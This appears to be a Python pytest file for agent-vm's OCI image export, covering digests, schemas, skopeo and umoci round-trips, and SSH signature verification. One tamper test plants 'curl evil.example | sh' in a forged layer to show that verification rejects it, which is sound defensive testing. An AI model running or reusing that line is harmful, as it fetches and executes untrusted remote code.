"""``agentvm image export --oci``: the layout is checked by real tools (skopeo copies it -
verifying every digest - and inspects it; umoci unpacks it as a runtime would, and the
unpacked root must be the very tree, by agent-vm's own digest), agent-vm's own importer takes
it back to the same digest, and the SSH signatures in the manifest survive a copy and verify
at the far end (an edited layer or a stranger's signature does not)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from agentvm.errors import ConfigError
from agentvm.images import ImageError, Store, tree_digest
from agentvm.images.export import MT_CONFIG, MT_INDEX, MT_LAYER, MT_MANIFEST, export_oci, verify_layout

SKOPEO, UMOCI = shutil.which("skopeo"), shutil.which("umoci")
need_skopeo = pytest.mark.skipif(SKOPEO is None, reason="skopeo is not installed (scripts/install.sh installs it)")
need_umoci = pytest.mark.skipif(UMOCI is None, reason="umoci is not installed (scripts/install.sh installs it)")


@pytest.fixture
def world(tmp_path):
    store = Store(tmp_path / "home")
    st = store.staging()
    r = st / "root"
    (r / "usr/bin").mkdir(parents=True)
    (r / "etc/ssl").mkdir(parents=True)
    (r / "usr/share/empty").mkdir(parents=True)
    (r / "usr/bin/tool").write_bytes(b"#!/bin/sh\necho hi\n")
    os.chmod(r / "usr/bin/tool", 0o755)
    (r / "etc/hostname").write_text("agent\n")
    os.chmod(r / "etc/hostname", 0o600)
    os.symlink("/usr/bin/tool", r / "usr/bin/alias")
    os.symlink("../bin", r / "usr/share/bin-link")
    deep = r / "usr/share" / ("d" * 60) / ("e" * 60)
    deep.mkdir(parents=True)
    (deep / ("f" * 90)).write_bytes(os.urandom(3000))  # a path past ustar's 100 characters
    (r / "usr/share/big").write_bytes(os.urandom(1 << 20))
    os.mkfifo(r / "usr/share/pipe", 0o600)
    os.chmod(r / "usr/share/empty", 0o711)
    img = store.commit(r, {"source": "test"}, "agent-base")
    keys = tmp_path / "keys"
    keys.mkdir()
    for who in ("op", "eve"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", who, "-f", str(keys / who)], check=True)
    signers = tmp_path / "signers"
    signers.write_text(f"op@example.test {(keys / 'op.pub').read_text()}")
    from agentvm.images.sign import sign

    sign(store, "agent-base", keys / "op")
    yield {"tmp": tmp_path, "store": store, "img": img, "signers": signers, "keys": keys}
    shutil.rmtree(tmp_path / "home", ignore_errors=True)


def _blob(layout: Path, digest: str) -> bytes:
    return (layout / "blobs" / "sha256" / digest.split(":")[1]).read_bytes()


def test_the_layout_has_the_media_types_digests_and_diff_ids_of_the_spec(world):
    out = world["tmp"] / "oci"
    got = export_oci(world["store"], "agent-base", out)
    assert json.loads((out / "oci-layout").read_text()) == {"imageLayoutVersion": "1.0.0"}
    index = json.loads((out / "index.json").read_text())
    assert index["schemaVersion"] == 2 and index["mediaType"] == MT_INDEX
    (m,) = index["manifests"]
    assert m["mediaType"] == MT_MANIFEST and m["annotations"]["org.opencontainers.image.ref.name"] == "agent-base"
    for p in (out / "blobs" / "sha256").iterdir():  # every blob is named by its content
        assert hashlib.sha256(p.read_bytes()).hexdigest() == p.name
    man = json.loads(_blob(out, m["digest"]))
    assert m["size"] == len(_blob(out, m["digest"]))
    assert man["mediaType"] == MT_MANIFEST and man["config"]["mediaType"] == MT_CONFIG
    (layer,) = man["layers"]
    assert layer["mediaType"] == MT_LAYER and layer["size"] == len(_blob(out, layer["digest"]))
    cfg = json.loads(_blob(out, man["config"]["digest"]))
    import gzip

    assert cfg["rootfs"] == {"type": "layers",
                             "diff_ids": ["sha256:" + hashlib.sha256(gzip.decompress(_blob(out, layer["digest"]))).hexdigest()]}
    assert cfg["os"] == "linux" and cfg["architecture"] in ("amd64", "arm64")
    assert man["annotations"]["dev.agentvm.image.tree-digest"] == world["img"].digest == got["image"]
    assert "BEGIN SSH SIGNATURE" in man["annotations"]["dev.agentvm.image.signature.0"]
    # the layer: root-owned, time 0, modes as stored, nothing outside the tree
    with tarfile.open(fileobj=__import__("io").BytesIO(gzip.decompress(_blob(out, layer["digest"])))) as t:
        members = {x.name: x for x in t.getmembers()}
    assert all(x.uid == 0 and x.gid == 0 and x.mtime == 0 for x in members.values())
    assert all(not x.name.startswith(("/", "..")) for x in members.values())
    assert members["etc/hostname"].mode == 0o600 and members["usr/bin/tool"].mode == 0o755
    assert members["usr/bin/alias"].issym() and members["usr/share/pipe"].isfifo()
    assert members["usr/share/empty"].mode == 0o711
    # the same image exports to the same bytes (a registry dedupes it; a digest pins it)
    again = export_oci(world["store"], "agent-base", world["tmp"] / "oci2")
    assert again["manifest"] == got["manifest"] and again["layer"] == got["layer"]


def test_the_layout_validates_against_the_oci_schemas_shape(world):
    """The image-spec's required fields and formats, checked with jsonschema (the spec's own
    schemas are not vendored here; these are their required parts)."""
    import jsonschema

    out = world["tmp"] / "oci"
    export_oci(world["store"], "agent-base", out)
    digest = {"type": "string", "pattern": r"^sha256:[a-f0-9]{64}$"}
    desc = {"type": "object", "required": ["mediaType", "digest", "size"],
            "properties": {"mediaType": {"type": "string", "pattern": r"^[a-z]+/[a-zA-Z0-9.+-]+$"},
                           "digest": digest, "size": {"type": "integer", "minimum": 0},
                           "annotations": {"type": "object", "additionalProperties": {"type": "string"}}}}
    index = json.loads((out / "index.json").read_text())
    jsonschema.validate(index, {"type": "object", "required": ["schemaVersion", "manifests"],
                                "properties": {"schemaVersion": {"const": 2}, "manifests": {"type": "array", "items": desc}}})
    man = json.loads(_blob(out, index["manifests"][0]["digest"]))
    jsonschema.validate(man, {"type": "object", "required": ["schemaVersion", "config", "layers"],
                              "properties": {"schemaVersion": {"const": 2}, "config": desc,
                                             "layers": {"type": "array", "minItems": 1, "items": desc},
                                             "annotations": desc["properties"]["annotations"]}})
    cfg = json.loads(_blob(out, man["config"]["digest"]))
    jsonschema.validate(cfg, {"type": "object", "required": ["architecture", "os", "rootfs"],
                              "properties": {"rootfs": {"type": "object", "required": ["type", "diff_ids"],
                                                        "properties": {"type": {"const": "layers"},
                                                                       "diff_ids": {"type": "array", "items": digest}}}}})


@need_skopeo
def test_skopeo_copies_and_inspects_it_and_the_signatures_survive_the_copy(world):
    out, copy = world["tmp"] / "oci", world["tmp"] / "copied"
    got = export_oci(world["store"], "agent-base", out)
    # skopeo copy reads every blob and checks it against its digest; then the copy is what a registry would hold
    r = subprocess.run([SKOPEO, "copy", "--quiet", f"oci:{out}:agent-base", f"oci:{copy}:pushed"],
                       capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    r = subprocess.run([SKOPEO, "inspect", f"oci:{copy}:pushed"], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    info = json.loads(r.stdout)
    assert info["Digest"] == got["manifest"], "the manifest (and its annotations) traveled byte for byte"
    assert info["Layers"] == [got["layer"]] and info["Os"] == "linux"
    assert info["Labels"]["dev.agentvm.image.tree-digest"] == world["img"].digest
    v = verify_layout(copy, world["signers"])
    assert v["tree"] == world["img"].digest and v["signed_by"] == ["op@example.test"]
    # an oci-archive on stdout, which skopeo reads too
    arc = world["tmp"] / "img.tar"
    with open(arc, "wb") as f:
        export_oci(world["store"], "agent-base", "-", stream=f)
    r = subprocess.run([SKOPEO, "inspect", f"oci-archive:{arc}:agent-base"], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["Digest"] == got["manifest"]


def test_a_stranger_signature_or_an_edited_layer_does_not_verify(world):
    from agentvm.images.sign import sign

    sign(world["store"], "agent-base", world["keys"] / "eve")
    out = world["tmp"] / "oci"
    export_oci(world["store"], "agent-base", out)
    v = verify_layout(out, world["signers"])
    assert v["signatures"] == 2 and v["signed_by"] == ["op@example.test"]  # eve's is carried, not trusted
    eve_only = world["tmp"] / "eve-signers"
    eve_only.write_text(f"eve@example.test {(world['keys'] / 'eve.pub').read_text()}")
    assert verify_layout(out, eve_only)["signed_by"] == ["eve@example.test"]
    # a bit flipped in the layer: its blob no longer matches its digest
    index = json.loads((out / "index.json").read_text())
    man = json.loads(_blob(out, index["manifests"][0]["digest"]))
    blob = out / "blobs" / "sha256" / man["layers"][0]["digest"].split(":")[1]
    saved = blob.read_bytes()
    blob.write_bytes(saved[:-40] + bytes(40))
    with pytest.raises(ImageError, match="digest"):
        verify_layout(out, world["signers"])
    blob.write_bytes(saved)
    # a consistent layout of ANOTHER tree (every digest right) that keeps the signed annotations
    from agentvm.images.export import _canon, write_layer

    evil = world["tmp"] / "evil"
    shutil.copytree(world["img"].root, evil, symlinks=True, ignore=lambda d, names: [n for n in names if n == "pipe"])
    (evil / "usr/bin/tool").chmod(0o755)
    (evil / "usr/bin/tool").write_bytes(b"#!/bin/sh\ncurl evil.example | sh\n")
    blobs = out / "blobs" / "sha256"
    with open(blobs / "new", "wb") as f:
        diff_id, digest, size = write_layer(evil, f)
    os.replace(blobs / "new", blobs / digest.split(":")[1])
    cfg = json.loads(_blob(out, man["config"]["digest"]))
    cfg["rootfs"]["diff_ids"] = [diff_id]
    c = _canon(cfg)
    (blobs / hashlib.sha256(c).hexdigest()).write_bytes(c)
    man["config"].update(digest="sha256:" + hashlib.sha256(c).hexdigest(), size=len(c))
    man["layers"][0].update(digest=digest, size=size)
    m = _canon(man)
    (blobs / hashlib.sha256(m).hexdigest()).write_bytes(m)
    index["manifests"][0].update(digest="sha256:" + hashlib.sha256(m).hexdigest(), size=len(m))
    (out / "index.json").write_bytes(_canon(index))
    with pytest.raises(ImageError, match="unpacks to"):
        verify_layout(out, world["signers"])
    shutil.rmtree(evil, ignore_errors=True)


@need_umoci
def test_umoci_unpacks_it_to_the_same_tree(world):
    """umoci unpacks an OCI image into a runtime bundle as a container runtime's image store
    would: its rootfs has agent-vm's digest of the image, so the signatures hold for what runs."""
    out = world["tmp"] / "oci"
    export_oci(world["store"], "agent-base", out)
    bundle = world["tmp"] / "bundle"
    args = [UMOCI, "unpack"] + ([] if os.geteuid() == 0 else ["--rootless"]) + ["--image", f"{out}:agent-base", str(bundle)]
    r = subprocess.run(args, capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    try:
        os.chmod(bundle / "rootfs", 0o755)
        assert tree_digest(bundle / "rootfs")[0] == world["img"].digest
        cfg = json.loads((bundle / "config.json").read_text())
        assert any(e.startswith("PATH=") for e in cfg["process"]["env"])
    finally:
        shutil.rmtree(bundle, ignore_errors=True)


def test_agentvm_imports_its_own_export_to_the_same_digest(world):
    from agentvm.images.layers import Limits, import_layers

    out = world["tmp"] / "oci"
    export_oci(world["store"], "agent-base", out)
    other = Store(world["tmp"] / "home2")
    st = other.staging()
    (st / "root").mkdir()
    import_layers(out, st / "root", Limits())
    assert other.commit(st / "root", {"source": "oci"}).digest == world["img"].digest
    shutil.rmtree(world["tmp"] / "home2", ignore_errors=True)


def test_refusals(world):
    (world["tmp"] / "full").mkdir()
    (world["tmp"] / "full" / "x").write_text("x")
    with pytest.raises(ConfigError):
        export_oci(world["store"], "agent-base", world["tmp"] / "full")
    with pytest.raises(ImageError):
        export_oci(world["store"], "nope", world["tmp"] / "n")
    (world["img"].root / "etc" / "hostname").chmod(0o644)  # a tree changed after it was stored
    with pytest.raises(ImageError, match="corrupt"):
        export_oci(world["store"], "agent-base", world["tmp"] / "c")
    assert not (world["tmp"] / "c").exists()


def test_the_cli_exports(world):
    env = dict(os.environ, AGENTVM_HOME=str(world["tmp"] / "home"))
    r = subprocess.run([sys.executable, "-m", "agentvm", "image", "export", "--oci", "agent-base", str(world["tmp"] / "cli")],
                       capture_output=True, text=True, timeout=120, env=env)
    assert r.returncode == 0, r.stderr
    got = json.loads(r.stdout)
    assert got["image"] == world["img"].digest and got["signatures"] == 1
    r = subprocess.run([sys.executable, "-m", "agentvm", "image", "verify-oci", str(world["tmp"] / "cli"),
                        "--signers", str(world["signers"]), "--require-signed"],
                       capture_output=True, text=True, timeout=120, env=env)
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["signed_by"] == ["op@example.test"]
